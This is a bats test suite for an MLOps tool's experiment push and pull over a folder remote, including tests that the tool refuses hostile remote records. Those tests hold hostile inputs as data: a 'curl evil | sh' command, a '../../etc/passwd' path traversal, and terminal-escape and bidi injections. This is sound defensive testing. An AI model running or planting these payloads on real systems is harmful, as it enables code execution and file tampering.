#!/usr/bin/env bats
# Sharing runs through a folder remote: exp push, exp pull, exp list --remote,
# and what a hostile remote can and cannot do to a clone that pulls from it.
load helpers
load folder_remote

# A run with params, tags, 5 metric points, a file and a folder artifact.
#   a_run NAME [LR]
a_run() {
  mkdir -p out/dir && echo "weights of $1" > out/model.bin && echo "a" > out/dir/a && echo "b" > out/dir/b
  mlops exp run -q -n "$1" -p lr="${2:-0.1}" --tag team=vision --artifact out/model.bin --artifact out/dir -- \
    sh -c 'for i in 1 2 3 4 5; do echo "{\"loss\": 0.$((6 - i)), \"acc\": 0.$i}" >> "$MLOPS_METRICS_FILE"; done; echo "log of the run"'
}

# Writes a page of runs onto the remote under its proper name; prints the name.
#   plant_page FILE
plant_page() {
  local hash name
  hash=$(xxh128sum "$1" | cut -d' ' -f1)
  name="$(date +%s%3N)-$hash.json"
  mkdir -p "$REMOTE/runs" && cp "$1" "$REMOTE/runs/$name"
  echo "$name"
}

# The one page on the remote, as JSON.
only_page() { cat "$REMOTE"/runs/*.json; }

@test "push then pull into a new clone: params, tags, every point, artifacts, log and diff arrive" {
  git commit -q --allow-empty -m base
  echo "dirty" > untracked.txt && git add untracked.txt
  a_run first 0.1
  a_run second 0.01
  run mlops exp push
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == "Pushed 2 runs to origin"* ]]
  mlops exp export --json > "$BATS_TEST_TMPDIR/mine.json"
  first_diff=$(mlops exp show --diff first)

  clone bob
  run mlops exp list
  [[ "$output" == "No runs yet"* ]]
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == "Pulled 2 runs from origin"* ]]
  # Every point with its step and time, every param, tag and artifact: the same export.
  mlops exp export --json > "$BATS_TEST_TMPDIR/theirs.json"
  diff <(jq -S . "$BATS_TEST_TMPDIR/mine.json") <(jq -S . "$BATS_TEST_TMPDIR/theirs.json")
  [ "$(mlops exp show --diff first)" = "$first_diff" ]
  run mlops exp show first
  [[ "$output" == *"user       $USER@"* || "$output" == *"user       "*"@"* ]]
  [[ "$output" == *"lr = 0.1"* && "$output" == *"team = vision"* ]]
  # The artifacts are in this clone's store, and fsck finds them whole.
  run mlops fsck
  [ "$status" -eq 0 ]
  model=$(mlops exp show first --json | jq -r '.artifacts["out/model.bin"]')
  [ "$(cat "$(object_path "$model")")" = "weights of first" ]
  log=$(mlops exp show first --json | jq -r '.artifacts["mlops.log"]')
  [ "$(cat "$(object_path "$log")")" = "log of the run" ]
}

@test "push and pull are idempotent, and nothing new costs no page read" {
  a_run one
  mlops exp push -q
  run mlops exp push --json
  [ "$(jq '.pushed | length' <<<"$output")" -eq 0 ]
  [ "$(jq '.already' <<<"$output")" -eq 1 ]
  [ "$(ls "$REMOTE/runs" | wc -l)" -eq 1 ]
  clone bob
  mlops exp pull -q
  run mlops exp pull --json
  [ "$(jq '.pulled | length' <<<"$output")" -eq 0 ]
  [ "$(jq '.already' <<<"$output")" -eq 1 ]
  [ "$(mlops exp list --json | jq length)" -eq 1 ]
  # Pages read once are kept: a pull with nothing new opens no page.
  # (LeakSanitizer cannot run under ptrace.)
  ASAN_OPTIONS="${ASAN_OPTIONS:-}:detect_leaks=0" run strace -f -e trace=openat -o "$BATS_TEST_TMPDIR/trace" "$MLOPS" exp pull -q
  [ "$status" -eq 0 ]
  ! grep -q "$REMOTE/runs/.*json" "$BATS_TEST_TMPDIR/trace"
}

@test "running runs are not pushed; runs chosen by name, by experiment, or all" {
  a_run kept
  mlops exp run -q -n other -e tuning -- true
  mlops exp run -q -n third -e tuning -- true
  run mlops exp push other
  [ "$status" -eq 0 ]
  [[ "$output" == "Pushed 1 run"* ]]
  run mlops exp push -e tuning --json
  [ "$(jq -r '.pushed[0].name' <<<"$output")" = third ]
  run mlops exp push nosuchrun
  [ "$status" -eq 4 ]
  [[ "$output" == *"no run 'nosuchrun'"* ]]
  run mlops exp push --all kept
  [ "$status" -eq 2 ]
  # A run still running is not sent, and says so.
  mlops exp run -q -n slow -- sleep 3 &
  wait_for 20 '[ "$(mlops exp list --filter "status = \"running\"" --json | jq length)" -eq 1 ]'
  run --separate-stderr mlops exp push slow --json
  [ "$(jq -r '.running[0].name' <<<"$output")" = slow ]
  [[ "$stderr" == *"warning: run slow ("*"is still running; not pushed"* ]]
  wait
  clone bob
  run mlops exp pull -e tuning --json
  [ "$(jq '.pulled | length' <<<"$output")" -eq 2 ]
  run mlops exp pull kept
  [ "$status" -eq 4 ]
  [[ "$output" == *"no run 'kept' on remote origin"* ]]
}

@test "exp list --remote and exp show --remote read the remote without importing" {
  a_run alpha 0.5
  mlops exp push -q
  clone bob
  run mlops exp list --remote
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *alpha* && "$output" == *"0.5"* ]]
  run mlops exp list -r origin --filter 'params.lr = 0.5' --columns name,metrics.loss --csv
  [ "$output" = "$(printf 'name,metrics.loss\nalpha,0.1')" ]
  run mlops exp show --remote alpha
  [[ "$output" == *"lr = 0.5"* ]]
  run mlops exp list --json
  [ "$output" = "[]" ]
  run mlops exp show --remote alpha --diff
  [ "$status" -eq 2 ]
  [[ "$output" == *"pull the run first"* ]]
}

@test "three people push at once to one remote; each pulls the union; same names both survive" {
  for who in alice bob carol; do
    clone "$who"
    for i in 1 2 3; do USER=$who mlops exp run -q -n "run-$i" -p who=$who -- sh -c "echo '{\"m\": $i}' >> \$MLOPS_METRICS_FILE"; done
  done
  for who in alice bob carol; do (cd "$BATS_TEST_TMPDIR/$who" && mlops exp push -q) & done
  wait
  for who in alice bob carol; do
    cd "$BATS_TEST_TMPDIR/$who"
    run mlops exp pull --json
    [ "$status" -eq 0 ]
    [ "$(jq '.pulled | length' <<<"$output")" -eq 6 ]
    [ "$(mlops exp list --json | jq length)" -eq 9 ]
  done
  # Names shared by three people's runs: shown with their origin, chosen as NAME@USER.
  run mlops exp list --columns name,user --csv
  [ "$(grep -c '^run-1' <<<"$output")" -eq 3 ]
  run mlops exp list --filter 'user = "alice"' --json
  [ "$(jq length <<<"$output")" -eq 3 ]
  run mlops exp list
  [[ "$output" == *"run-1 (alice@"* && "$output" == *"USER"* ]]
  run mlops exp show run-1
  echo "$output"
  [ "$status" -eq 4 ]
  [[ "$output" == *"'run-1' names 3 runs"* ]]
  run mlops exp show run-1@bob --json
  [ "$status" -eq 0 ]
  [ "$(jq -r '.params.who' <<<"$output")" = bob ]
  # One's own run is the one a plain name means (scripts that worked before a pull still do).
  USER=carol run mlops exp show run-1 --json
  [ "$status" -eq 0 ]
  [ "$(jq -r '.params.who' <<<"$output")" = carol ]
  # A new local run still gets a name of its own.
  run mlops exp run -q -n run-1 -- true
  [ "$status" -eq 2 ]
}

@test "kill -9 during exp push and exp pull: the retry completes, nothing is duplicated" {
  for i in $(seq 1 12); do
    head -c 3000000 /dev/urandom > "big$i.bin"
    mlops exp run -q -n "r$i" --artifact "big$i.bin" -- true
  done
  mlops exp push -q -j 1 &
  pid=$!
  sleep 0.3
  kill -9 "$pid" 2>/dev/null || true
  wait "$pid" || true
  # No page names an object that is not there.
  mlops exp push -q
  [ "$(mlops exp list --remote --json | jq length)" -eq 12 ]
  clone bob
  mlops exp pull -q -j 1 &
  pid=$!
  sleep 0.3
  kill -9 "$pid" 2>/dev/null || true
  wait "$pid" || true
  run mlops exp pull --json
  [ "$status" -eq 0 ]
  [ "$(mlops exp list --json | jq length)" -eq 12 ]
  [ "$(mlops exp list --json | jq '[.[].id] | unique | length')" -eq 12 ]
  run mlops fsck
  [ "$status" -eq 0 ]
}

@test "a page altered after it was written is refused by name; the other runs still come" {
  a_run good
  mlops exp push -q
  page=$(ls "$REMOTE/runs")
  cp "$REMOTE/runs/$page" "$BATS_TEST_TMPDIR/page.json"
  # Same name, other content: the hash in the name no longer matches.
  sed 's/"lr":"0.1"/"lr":"9.9"/' "$BATS_TEST_TMPDIR/page.json" > "$BATS_TEST_TMPDIR/altered.json"
  a_run second
  mlops exp push -q second
  chmod u+w "$REMOTE/runs/$page" && cp "$BATS_TEST_TMPDIR/altered.json" "$REMOTE/runs/$page"
  clone bob
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 8 ]
  [[ "$output" == *"runs/$page: its content does not match its name"* ]]
  [ "$(mlops exp list --json | jq -r '.[].name')" = second ]
  run mlops exp list --remote
  [ "$status" -eq 0 ]
  [[ "$output" == *"warning: remote origin: runs/$page"* ]]
}

@test "hostile run records: each is refused naming page and run, nothing of it is imported" {
  a_run genuine
  mlops exp push -q
  good=$(only_page)
  clone bob
  mutate() {  # jq filter on the genuine page's first run -> a planted page
    jq -c "$1" <<<"$good" > "$BATS_TEST_TMPDIR/bad.json" || return 1
    plant_page "$BATS_TEST_TMPDIR/bad.json"
  }
  id=$(jq -r '.runs[0].id' <<<"$good")
  other="0123456789abcdef0123456789abcdef"
  cases=(
    ".runs[0].id = \"$other\" | .runs[0].artifacts = {\"../../etc/passwd\": {\"id\": .runs[0].log_id, \"size\": 1}} => unsafe path"
    ".runs[0].id = \"../../x\" => is not a run id"
    ".runs[0].id = \"$other\" | .runs[0].name = \"evil\u001b[2J\" => name"
    ".runs[0].id = \"$other\" | .runs[0].params = {\"k\": \"v\u0007\"} => control character"
    ".runs[0].id = \"$other\" | .runs[0].status = \"running\" => status"
    ".runs[0].id = \"$other\" | .runs[0].started_at = -5 => negative"
    ".runs[0].id = \"$other\" | .runs[0].exit_code = 1e300 => exit_code"
    ".runs[0].id = \"$other\" | .runs[0].points = \"xxh128:zz\" => object id"
    ".runs[0].id = \"$other\" | .runs[0].metrics.loss.last = \"many\" => is not a number"
    ".format = \"mlops-runs 99\" => not a run page"
    ".runs = [range(1001) | {}] => more than a page holds"
    ".runs[0].id = \"$other\" | .runs[0].params = [[[[[[[[1]]]]]]]] => nested too deeply"
  )
  for c in "${cases[@]}"; do
    rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
    page=$(mutate "${c%% => *}")
    run mlops exp pull
    echo "case: $c"
    echo "$output"
    [ "$status" -eq 8 ]
    [[ "$output" == *"runs/$page"* && "$output" == *"${c##* => }"* ]]
    [ "$(mlops exp list --json | jq length)" -eq 0 ]
  done
  # Names that are not pages, and a page that is a FIFO.
  rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
  echo x > "$REMOTE/runs/notes.txt"
  mkfifo "$REMOTE/runs/1700000000000-0123456789abcdef0123456789abcdef.json"
  run timeout 20 "$MLOPS" exp pull
  echo "$output"
  [ "$status" -eq 8 ]
  [[ "$output" == *"warning: remote origin: runs/notes.txt is not a run page; ignored"* ]]
  [[ "$output" == *"runs/1700000000000-0123456789abcdef0123456789abcdef.json: remote origin: "*"is not a regular file"* ]]
}

@test "a record whose summary lies: the points decide; damaged points refuse the run alone" {
  a_run honest
  mlops exp push -q
  good=$(only_page)
  clone bob
  rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
  jq -c '.runs[0].metrics.loss.last = 0.0001' <<<"$good" > "$BATS_TEST_TMPDIR/lie.json"
  plant_page "$BATS_TEST_TMPDIR/lie.json"
  run mlops exp list --remote --columns name,metrics.loss --csv
  [ "$output" = "$(printf 'name,metrics.loss\nhonest,0.0001')" ]
  mlops exp pull -q
  run mlops exp list --columns name,metrics.loss --csv
  [ "$output" = "$(printf 'name,metrics.loss\nhonest,0.1')" ]
  # Points that hash to their name but are not points: refused, run not imported.
  cd "$BATS_TEST_TMPDIR" && clone carol
  printf 'not points\n' > "$BATS_TEST_TMPDIR/junk"
  junk_id=$(xxh_id "$BATS_TEST_TMPDIR/junk")
  hex=${junk_id#xxh128:}
  mkdir -p "$REMOTE/objects/${hex:0:2}" && cp "$BATS_TEST_TMPDIR/junk" "$REMOTE/objects/${hex:0:2}/${hex:2}"
  rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
  jq -c --arg p "$junk_id" '.runs[0].points = $p | .runs[0].points_size = 11' <<<"$good" > "$BATS_TEST_TMPDIR/junkpts.json"
  plant_page "$BATS_TEST_TMPDIR/junkpts.json"
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 8 ]
  [[ "$output" == *"metric points of run honest"*"not a metric points file"* ]]
  [ "$(mlops exp list --json | jq length)" -eq 0 ]
}

@test "model lineage and show in a clone: pull the run, then it is found; model sync --runs pulls it" {
  git commit -q --allow-empty -m base
  echo weights > model.bin
  mlops exp run -q -n trainer --artifact model.bin -- true
  mlops model register -q clf model.bin --run trainer
  mlops push -q
  mlops exp push -q
  git add -A && git commit -qm model
  git clone -q . "$BATS_TEST_TMPDIR/teammate" && cd "$BATS_TEST_TMPDIR/teammate"
  mlops model sync -q
  run mlops model lineage clf
  echo "$output"
  [[ "$output" == *"not in this clone: 'mlops exp pull "* ]]
  run mlops model show clf
  [[ "$output" == *"not in this clone: mlops exp pull "* ]]
  run mlops model sync --runs
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"Pulled 1 run that registered versions name"* ]]
  run mlops model lineage clf
  [[ "$output" == *"run        trainer ("* ]]
}

@test "a run changed after its push is pushed again; a clone that has it takes it with pull --force" {
  a_run tuned
  mlops exp push -q
  clone bob
  mlops exp pull -q
  cd "$BATS_TEST_TMPDIR" && cd "$(dirname "$REMOTE")"/.. 2>/dev/null; cd "$TEST_REPO"
  mlops exp tag tuned reviewed=yes
  mlops exp log metric test_acc 0.77 --run tuned
  run mlops exp push --json
  echo "$output"
  [ "$(jq -r '.updated[0].name' <<<"$output")" = tuned ]
  [ "$(jq '.pushed | length' <<<"$output")" -eq 0 ]
  run mlops exp show --remote tuned --json
  [ "$(jq -r '.tags.reviewed' <<<"$output")" = yes ]
  cd "$BATS_TEST_TMPDIR/bob"
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"1 run differ on origin"*"tuned ("* ]]
  [ "$(mlops exp show tuned --json | jq -r '.tags.reviewed')" = null ]
  run mlops exp pull --force --json
  [ "$(jq -r '.updated[0].name' <<<"$output")" = tuned ]
  [ "$(mlops exp show tuned --json | jq -r '.metrics.test_acc.last')" = 0.77 ]
  [ "$(mlops exp list --json | jq length)" -eq 1 ]
}

@test "exp rm --remote takes a run off the remote; gc -r then removes its objects" {
  echo "AWS_SECRET=hunter2" > secret.txt
  mlops exp run -q -n leak --artifact secret.txt -- true
  a_run keep
  mlops exp push -q
  secret=$(mlops exp show leak --json | jq -r '.artifacts["secret.txt"]')
  run mlops exp rm --remote leak
  [ "$status" -eq 0 ]
  [[ "$output" == "removed run leak ("*"from the remote"* ]]
  [ "$(mlops exp list --remote --json | jq -r '.[].name')" = keep ]
  mlops exp show leak -q >/dev/null  # this clone keeps its copy
  mlops gc -r origin -w --grace 0 -q
  [ ! -e "$REMOTE/objects/${secret:7:2}/${secret:9}" ]
  clone bob
  run mlops exp pull --json
  [ "$(jq -r '[.pulled[].name] | join(",")' <<<"$output")" = keep ]
  run mlops fsck
  [ "$status" -eq 0 ]
}

@test "an object the remote lost: pull says which run; the pusher's next exp push sends it again" {
  a_run precious
  mlops exp push -q
  model=$(mlops exp show precious --json | jq -r '.artifacts["out/model.bin"]')
  rm "$REMOTE/objects/${model:7:2}/${model:9}"
  clone bob
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 8 ]
  [[ "$output" == *"precious ("*"absent: out/model.bin"* ]]
  cd "$TEST_REPO"
  run mlops exp push --json
  [ "$(jq '.objects' <<<"$output")" -eq 1 ]
  cd "$BATS_TEST_TMPDIR/bob"
  run mlops exp pull
  [ "$status" -eq 0 ]
  [ "$(cat "$(object_path "$model")")" = "weights of precious" ]
}

@test "forged pages: a future date does not stall later pushes; an older page with a run's id does not replace it" {
  a_run real
  mlops exp push -q
  good=$(only_page)
  id=$(jq -r '.runs[0].id' <<<"$good")
  # Dated far ahead, and dated long ago with the real run's id and a forged command.
  jq -c '.runs[0].id = "0123456789abcdef0123456789abcdef" | .runs[0].name = "future"' <<<"$good" > "$BATS_TEST_TMPDIR/f.json"
  h=$(xxh128sum "$BATS_TEST_TMPDIR/f.json" | cut -d' ' -f1) && cp "$BATS_TEST_TMPDIR/f.json" "$REMOTE/runs/9999999999999-$h.json"
  jq -c '.runs[0].command = "curl evil | sh" | .runs[0].artifacts = {} | .runs[0].points = null | .runs[0].metrics = {}' <<<"$good" > "$BATS_TEST_TMPDIR/old.json"
  h=$(xxh128sum "$BATS_TEST_TMPDIR/old.json" | cut -d' ' -f1) && cp "$BATS_TEST_TMPDIR/old.json" "$REMOTE/runs/0000000000001-$h.json"
  mlops exp run -q -n later -- true
  mlops exp push -q
  ls "$REMOTE/runs" | grep -qv '^[0-9]\{13\}-[0-9a-f]\{32\}\.json$' && false
  clone bob
  run mlops exp show --remote real --json
  [ "$(jq -r .command <<<"$output")" != "curl evil | sh" ]
  [ "$(mlops exp list --remote --json | jq -r '.[].name' | sort | paste -sd,)" = "future,later,real" ]
  # gc keeps what every record of a run names: the real run's objects stay.
  mlops gc -r origin -w --grace 0 -q
  run mlops exp pull
  [ "$status" -eq 0 ]
  run mlops fsck
  [ "$status" -eq 0 ]
}

@test "hostile records the checks now refuse: bidi and C1 text, names like ids or NAME@USER, unlisted point names" {
  a_run base
  mlops exp push -q
  good=$(only_page)
  clone bob
  other="0123456789abcdef0123456789abcdef"
  for c in ".runs[0].name = \"x\u202eexe.txt\" => bidirectional" \
           ".runs[0].params = {\"k\": \"\u009b31m\"} => control character" \
           ".runs[0].name = \"fedcba9876543210fedcba9876543210\" => looks like a run id" \
           ".runs[0].name = \"mine@root\" => '@'" \
           ".runs[0].started_at = 9223372036854775807 => started_at" \
           ".runs[0].started_at = 253402300800000 => year 9999"; do
    rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
    jq -c ".runs[0].id = \"$other\" | ${c%% => *}" <<<"$good" > "$BATS_TEST_TMPDIR/bad.json"
    plant_page "$BATS_TEST_TMPDIR/bad.json" >/dev/null
    run mlops exp pull
    echo "$c: $output"
    [ "$status" -eq 8 ]
    [[ "$output" == *"${c##* => }"* ]]
  done
  # Points naming a metric the record does not list.
  rm -rf "$REMOTE/runs" && mkdir "$REMOTE/runs"
  printf 'mlops-points 1\nsneaky\t0\t1\t1\n' > "$BATS_TEST_TMPDIR/pts"
  pid=$(xxh_id "$BATS_TEST_TMPDIR/pts") && hex=${pid#xxh128:}
  mkdir -p "$REMOTE/objects/${hex:0:2}" && cp "$BATS_TEST_TMPDIR/pts" "$REMOTE/objects/${hex:0:2}/${hex:2}"
  jq -c --arg p "$pid" ".runs[0].id = \"$other\" | .runs[0].points = \$p | .runs[0].points_size = 30" <<<"$good" > "$BATS_TEST_TMPDIR/p.json"
  plant_page "$BATS_TEST_TMPDIR/p.json" >/dev/null
  run mlops exp pull
  [ "$status" -eq 8 ]
  [[ "$output" == *"names a metric the run's record does not list"* ]]
  [ "$(mlops exp list --json | jq length)" -eq 0 ]
  # The same rules for new local names.
  run mlops exp run -q -n 'a@b' -- true
  [ "$status" -eq 2 ]
  mlops exp run -q -n local1 -- true
  run mlops exp rename local1 "$other"
  [ "$status" -eq 2 ]
  [[ "$output" == *"looks like a run id"* ]]
}

@test "one run's bad folder manifest fails that run alone; an escape in a page name is not printed raw" {
  a_run good1
  mlops exp push -q
  good=$(only_page)
  clone bob
  # A file artifact said to be a folder: its "manifest" does not parse.
  jq -c '.runs[0].id = "0123456789abcdef0123456789abcdef" | .runs[0].name = "liar" | .runs[0].artifacts["out/model.bin"].dir = true' <<<"$good" > "$BATS_TEST_TMPDIR/liar.json"
  plant_page "$BATS_TEST_TMPDIR/liar.json" >/dev/null
  touch "$REMOTE/runs/9$(printf '\033]0;PWNED\007')"
  run mlops exp pull
  echo "$output"
  [ "$status" -eq 8 ]
  [[ "$output" == *"liar ("* ]]
  [ "$(mlops exp list --json | jq -r '.[].name')" = good1 ]
  [[ "$output" != *$'\033'* && "$output" != *$'\007'* ]]
}
